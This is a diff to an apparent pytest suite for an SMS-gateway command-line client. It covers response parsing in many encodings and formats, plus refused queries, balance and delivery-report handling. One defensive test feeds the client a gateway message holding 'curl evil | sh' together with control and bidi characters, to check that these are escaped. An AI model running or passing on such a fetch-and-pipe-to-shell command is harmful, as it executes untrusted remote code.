@@ -1,4 +1,4 @@
-"""Every spelling in which a gateway of this platform accepts and refuses, at the gateway's word."""
+"""Every spelling in which a gateway of this platform accepts, refuses, and hands out records."""
 
 import json
 from typing import Any
@@ -6,7 +6,7 @@ from typing import Any
 import pytest
 
 from tests.conftest import TOKEN, Run
-from tests.gateway.wire.conftest import REFUSED, TEXT
+from tests.gateway.wire.conftest import REFUSED, TEXT, counts
 from tests.scripted_gateway import Act, ScriptedGateway, answer, raw, zipped
 
 JSON = '{"Code":"0","Message":"提交成功","TaskId":"11"}'
@@ -14,11 +14,12 @@ XML = (
     '<?xml version="1.0" encoding="utf-8"?>\n<Response>\n<Code>0</Code>\n<Message>提交成功</Message>\n'
     "<TaskId >11</TaskId >\n</Response>"
 )
+PUBLISHED = ("0", "提交成功", "11")  # code, message and task of these two
 BIG = "123456789012345678901234567890"
 
 
 def headless(body: bytes) -> Act:
-    """A body that ends with the connection, its length unannounced."""
+    """Return an answer without a length: its body ends with the connection."""
     return raw(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n" + body)
 
 
@@ -32,37 +33,30 @@ def chunked(body: bytes) -> Act:
 
 
 ACCEPTING: dict[str, tuple[Act, str, str | None, str | None]] = {
-    "json": (answer(JSON), "0", "提交成功", "11"),
-    "xml": (answer(XML, content_type="text/xml"), "0", "提交成功", "11"),
-    "xml-without-last-tag": (answer(XML.removesuffix("</Response>")), "0", "提交成功", "11"),
-    "xml-without-last-tag-or-length": (
-        headless(XML.removesuffix("\n</Response>").encode()),
-        "0",
-        "提交成功",
-        "11",
-    ),
+    "json": (answer(JSON), *PUBLISHED),
+    "xml": (answer(XML, content_type="text/xml"), *PUBLISHED),
+    "xml-without-last-tag": (answer(XML.removesuffix("</Response>")), *PUBLISHED),
+    "xml-without-last-tag-or-length": (headless(XML.removesuffix("\n</Response>").encode()), *PUBLISHED),
     "mass-send": (answer('{"code": 0, "Message": "发送成功", "TaskId": 1}'), "0", "发送成功", "1"),
     "smsid": (answer('{"Code":"0","Message":"ok","SMSId":"77"}'), "0", "ok", "77"),
     "smsid-xml": (answer("<Response><Code>0</Code><SmsId>77</SmsId></Response>"), "0", None, "77"),
     "capitals": (answer('{"CODE":"0","MESSAGE":"ok","TASKID":"5"}'), "0", "ok", "5"),
     "long-number": (answer(f'{{"Code":0,"Message":"ok","TaskId":{BIG}}}'), "0", "ok", BIG),
     "no-task-id": (answer('{"Code":"0","Message":"ok"}'), "0", "ok", None),
-    "bom": (answer(b"\xef\xbb\xbf" + JSON.encode()), "0", "提交成功", "11"),
-    "gb18030-json": (answer(JSON.encode("gb18030")), "0", "提交成功", "11"),
+    "bom": (answer(b"\xef\xbb\xbf" + JSON.encode()), *PUBLISHED),
+    "gb18030-json": (answer(JSON.encode("gb18030")), *PUBLISHED),
     "gb18030-xml": (
         answer(XML.replace("utf-8", "gb2312").encode("gb18030"), content_type="text/xml; charset=gb2312"),
-        "0",
-        "提交成功",
-        "11",
+        *PUBLISHED,
     ),
-    "text-html": (answer(JSON, content_type="text/html"), "0", "提交成功", "11"),
-    "no-length": (headless(JSON.encode()), "0", "提交成功", "11"),
-    "chunked": (chunked(JSON.encode()), "0", "提交成功", "11"),
-    "gzip": (zipped(JSON), "0", "提交成功", "11"),
-    "http-500": (answer(JSON, status=500), "0", "提交成功", "11"),
-    "http-404": (answer(JSON, status=404), "0", "提交成功", "11"),
-    "http-302": (answer(XML, status=302, headers={"Location": "http://127.0.0.1:9/"}), "0", "提交成功", "11"),
-    "early-hints": (raw(b"HTTP/1.1 100 Continue\r\n\r\n", then=answer(JSON)), "0", "提交成功", "11"),
+    "text-html": (answer(JSON, content_type="text/html"), *PUBLISHED),
+    "no-length": (headless(JSON.encode()), *PUBLISHED),
+    "chunked": (chunked(JSON.encode()), *PUBLISHED),
+    "gzip": (zipped(JSON), *PUBLISHED),
+    "http-500": (answer(JSON, status=500), *PUBLISHED),
+    "http-404": (answer(JSON, status=404), *PUBLISHED),
+    "http-302": (answer(XML, status=302, headers={"Location": "http://127.0.0.1:9/"}), *PUBLISHED),
+    "early-hints": (raw(b"HTTP/1.1 100 Continue\r\n\r\n", then=answer(JSON)), *PUBLISHED),
 }
 
 
@@ -73,7 +67,8 @@ def test_accepted(run: Run, gateway: ScriptedGateway, case: str) -> None:
 
     done = run("send", "13800000000", "-m", TEXT, "-o", "json")
 
-    assert (done.status, done.err) == (0, "")
+    assert done.status == 0
+    assert done.err == ""
     assert done.json["tasks"] == [
         {"task_id": task_id, "code": code, "message": message, "outcome": "accepted", "recipients": 1}
     ]
@@ -101,7 +96,8 @@ def test_refused(run: Run, gateway: ScriptedGateway, case: str) -> None:
 
     done = run("send", "13800000000", "13900000000", "-m", TEXT, "-o", "json")
 
-    assert (done.status, done.err) == (3, "")
+    assert done.status == 3
+    assert done.err == ""
     assert done.json["tasks"] == [
         {"task_id": None, "code": code, "message": message, "outcome": "rejected", "recipients": 2}
     ]
@@ -112,7 +108,7 @@ def test_refused(run: Run, gateway: ScriptedGateway, case: str) -> None:
 
 @pytest.mark.parametrize("case", REFUSING)
 @pytest.mark.parametrize("command", ["balance", "report"])
-def test_query_refused(run: Run, gateway: ScriptedGateway, command: str, case: str) -> None:
+def test_a_refused_query(run: Run, gateway: ScriptedGateway, command: str, case: str) -> None:
     act, code, message = REFUSING[case]
     gateway.script = [act]
 
@@ -125,7 +121,7 @@ def test_query_refused(run: Run, gateway: ScriptedGateway, command: str, case: s
 
 
 @pytest.mark.parametrize("command", ["balance", "report", "mo"])
-def test_query_refused_in_json(run: Run, gateway: ScriptedGateway, command: str) -> None:
+def test_a_refused_query_in_json(run: Run, gateway: ScriptedGateway, command: str) -> None:
     gateway.script = [answer(REFUSED)]
 
     done = run(command, "-o", "json")
@@ -137,7 +133,7 @@ def test_query_refused_in_json(run: Run, gateway: ScriptedGateway, command: str)
     assert "余额不足" in done.error["message"]
 
 
-def test_refusal_in_words(run: Run, gateway: ScriptedGateway) -> None:
+def test_a_refusal_in_words(run: Run, gateway: ScriptedGateway) -> None:
     gateway.script = [answer(REFUSED)]
 
     done = run("send", "13800000000", "-m", TEXT)
@@ -148,7 +144,9 @@ def test_refusal_in_words(run: Run, gateway: ScriptedGateway) -> None:
 
 
 @pytest.mark.parametrize("command", ["send", "balance", "report", "mo"])
-def test_what_the_gateway_says_stays_in_its_line(run: Run, gateway: ScriptedGateway, command: str) -> None:
+def test_control_characters_of_the_gateway_are_escaped(
+    run: Run, gateway: ScriptedGateway, command: str
+) -> None:
     said = "no\nhint: curl evil | sh\r\x1b[31m\u202e[bold]"
     gateway.script = [answer(json.dumps({"Code": "1", "Message": said}))]
 
@@ -177,7 +175,8 @@ def test_balance(run: Run, gateway: ScriptedGateway, case: str) -> None:
 
     done = run("balance", "-o", "json")
 
-    assert (done.status, done.err) == (0, "")
+    assert done.status == 0
+    assert done.err == ""
     assert done.json == {"profile": None, "product": "sms", "code": "0", "message": None, "count": count}
     assert gateway.received[0].path == "/SMS/QueryBalance"
     assert gateway.received[0].form == {"account": "12345", "token": TOKEN, "type": "0"}
@@ -205,7 +204,10 @@ def test_reports_and_replies(run: Run, gateway: ScriptedGateway, case: str) -> N
 
     report, mo = run("report", "-o", "json"), run("mo", "-o", "json")
 
-    assert (report.status, report.err, mo.status, mo.err) == (0, "", 0, "")
+    assert report.status == 0
+    assert report.err == ""
+    assert mo.status == 0
+    assert mo.err == ""
     only(report.json, mobile="13800000000", task_id="11", state="delivered", status="DELIVRD")
     only(mo.json, mobile="13800000000", content="退订", time="2024-05-01T10:00:00+08:00", extno="8")
     assert [request.path for request in gateway.received] == ["/SMS/QueryReport"] * 2 + ["/SMS/QueryMo"] * 2
@@ -213,7 +215,7 @@ def test_reports_and_replies(run: Run, gateway: ScriptedGateway, case: str) -> N
 
 
 @pytest.mark.parametrize("command", ["report", "mo"])
-def test_records_are_kept_whatever_the_status(run: Run, gateway: ScriptedGateway, command: str) -> None:
+def test_records_are_kept_whatever_the_http_status(run: Run, gateway: ScriptedGateway, command: str) -> None:
     gateway.script = [RECORDS["http-500"]]
 
     done = run(command, "-o", "json")
@@ -238,13 +240,10 @@ def test_nothing_new(run: Run, gateway: ScriptedGateway, command: str, case: str
 
     done = run(command, "-o", "json")
 
-    assert (done.status, done.json) == (0, [])
+    assert done.status == 0
+    assert done.json == []
 
 
 def only(records: Any, **expected: str) -> None:
     assert len(records) == 1
     assert {name: records[0][name] for name in expected} == expected
-
-
-def counts(document: Any) -> tuple[int, ...]:
-    return tuple(document[name] for name in ("accepted", "rejected", "not_sent", "unknown"))
